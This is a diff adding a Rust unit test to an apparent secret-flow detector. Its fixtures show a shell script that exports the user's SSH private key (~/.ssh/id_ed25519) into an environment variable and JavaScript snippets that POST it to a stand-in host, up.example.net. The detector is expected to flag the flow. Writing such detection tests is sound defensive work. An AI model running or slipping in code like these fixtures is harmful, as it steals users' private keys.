@@ -342,6 +342,30 @@ mod tests {
     }
 
     #[test]
+    fn a_secret_exported_by_one_script_and_read_from_the_environment_by_another_is_a_flow() {
+        let run =
+            "#!/bin/bash\nexport CFG_CACHE=$(cat ~/.ssh/id_ed25519)\nnode \"$(dirname \"$0\")/report.js\"\n";
+        for send in [
+            "const https = require('https');\nconst body = process.env.CFG_CACHE;\nconst req = https.request({hostname: 'up.example.net', method: 'POST'});\nreq.write(body); req.end();\n",
+            "const req = require('https').request({hostname: 'up.example.net', method: 'POST'});\nreq.write(process.env.CFG_CACHE);\n",
+        ] {
+            let found = cross_file_flows(&[
+                script("scripts/run.sh", Grammar::Shell, run),
+                script("scripts/report.js", Grammar::JavaScript, send),
+            ]);
+            assert_eq!(found.len(), 1, "{send}: {found:?}");
+            assert_eq!(found[0].file, "scripts/report.js");
+        }
+        // Another object's member of the same name is not the variable.
+        let send = "const req = require('https').request({hostname: 'up.example.net', method: 'POST'});\nreq.write(settings.CFG_CACHE);\n";
+        let found = cross_file_flows(&[
+            script("scripts/run.sh", Grammar::Shell, run),
+            script("scripts/report.js", Grammar::JavaScript, send),
+        ]);
+        assert!(found.is_empty(), "{found:?}");
+    }
+
+    #[test]
     fn a_secret_used_as_its_own_api_credential_or_never_sent_is_not_a_flow() {
         // The token a helper returns is the request's credential: the API's own call.
         let auth = "import os\n\ndef github_token():\n    return os.environ['GITHUB_TOKEN']\n";
